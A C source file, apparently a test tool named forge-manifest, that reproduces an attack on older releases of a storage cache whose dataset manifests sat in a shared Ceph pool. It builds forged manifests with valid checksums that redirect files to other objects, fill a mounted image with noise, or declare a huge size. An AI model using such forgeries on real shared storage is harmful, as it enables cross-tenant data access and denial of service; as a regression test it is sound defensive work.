/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile tenant can do with the manifest of its own dataset. Releases before 0.2 kept a
 * dataset's manifest in Ceph, where every tenant that may write to the data pool could replace it.
 *
 *   forge-manifest redirect MANIFEST FROM TO DIR    a file leads to another object, by its 32
 * digits forge-manifest garbage MANIFEST DIR             what the kernel would mount is noise
 *   forge-manifest huge MANIFEST DIR                64 MiB of zeros, as the header says
 *
 * Writes to DIR the objects that nodes fetched, each a file by the object's name, all checksums
 * right.
 */
#include <endian.h>
#include <glib.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <xxhash.h>
#include "cache/manifest/manifest.h"

#define PART (4u << 20)
#define NONCE 0x1234u

static void put(const char *dir, const char *name, const void *data, gsize size)
{
    g_autofree char *path = g_build_filename(dir, name, NULL);
    g_autoptr(GError) error = NULL;
    if (!g_file_set_contents(path, data, (gssize)size, &error)) {
        fprintf(stderr, "forge-manifest: %s\n", error->message);
        exit(1);
    }
}

static void seal(char *file, gsize size)
{
    ManifestFooter f;
    memcpy(&f, file + size - sizeof(f), sizeof(f));
    f.content_checksum = htole64(XXH3_64bits(file, size - sizeof(f)));
    f.checksum = htole64(XXH3_64bits(&f, offsetof(ManifestFooter, checksum)));
    memcpy(file + size - sizeof(f), &f, sizeof(f));
}

static unsigned redirect(char *file, gsize size, const char *from, const char *to)
{
    unsigned found = 0;
    g_autofree char *old = g_strdup_printf("/%.2s/%s", from, from);
    g_autofree char *new = g_strdup_printf("/%.2s/%s", to, to);
    for (char *at = file; (at = memmem(at, size - (gsize)(at - file), old, strlen(old))); found++)
        memcpy(at, new, strlen(new));
    return found;
}

/* The kernel looks for a superblock at 1,024; behind it everything is noise. */
static void spoil(char *file, gsize image_bytes)
{
    for (gsize i = 1024 + 128; i < image_bytes; i++)
        file[i] = (char)(i * 2654435761u >> 13);
}

static void put_all(const char *dir, const char *id, const char *file, gsize size)
{
    struct __attribute__((packed)) {
        char magic[8];
        uint32_t version, part_bytes;
        uint64_t bytes, nonce, checksum;
    } header = {{0}, htole32(1), htole32(PART), htole64(size), htole64(NONCE), 0};
    memcpy(header.magic, "HRTHMNSH", sizeof(header.magic));
    header.checksum = htole64(XXH3_64bits(&header, sizeof(header) - 8));
    g_autofree char *name = g_strconcat("manifest.", id, NULL);
    put(dir, name, &header, sizeof(header));
    for (gsize off = 0; off < size; off += PART) {
        g_autofree char *part = g_strdup_printf("%s.%016x.%08x", name, NONCE, (guint)(off / PART));
        put(dir, part, file + off, MIN(PART, size - off));
    }
}

int main(int argc, char **argv)
{
    char *file;
    gsize size;
    const char *what = argc > 1 ? argv[1] : "";
    const gboolean is_redirect = strcmp(what, "redirect") == 0 && argc == 6;
    if (!is_redirect &&
        !(argc == 4 && (strcmp(what, "garbage") == 0 || strcmp(what, "huge") == 0))) {
        fprintf(
            stderr,
            "usage: forge-manifest redirect MANIFEST FROM TO DIR | garbage|huge MANIFEST DIR\n");
        return 2;
    }
    if (!g_file_get_contents(argv[2], &file, &size, NULL) || size < sizeof(ManifestFooter)) {
        fprintf(stderr, "forge-manifest: %s is no manifest\n", argv[2]);
        return 1;
    }
    ManifestFooter f;
    memcpy(&f, file + size - sizeof(f), sizeof(f));
    if (is_redirect && !redirect(file, size, argv[3], argv[4])) {
        fprintf(stderr, "forge-manifest: nothing leads to %s\n", argv[3]);
        return 1;
    }
    if (strcmp(what, "garbage") == 0)
        spoil(file, le64toh(f.image_bytes));
    if (strcmp(what, "huge") == 0) {
        g_free(file);
        file = g_malloc0(size = 64 << 20);
    } else {
        seal(file, size);
    }
    g_autofree char *id = g_path_get_basename(argv[2]);
    put_all(argv[argc - 1], id, file, size);
    g_free(file);
    return 0;
}
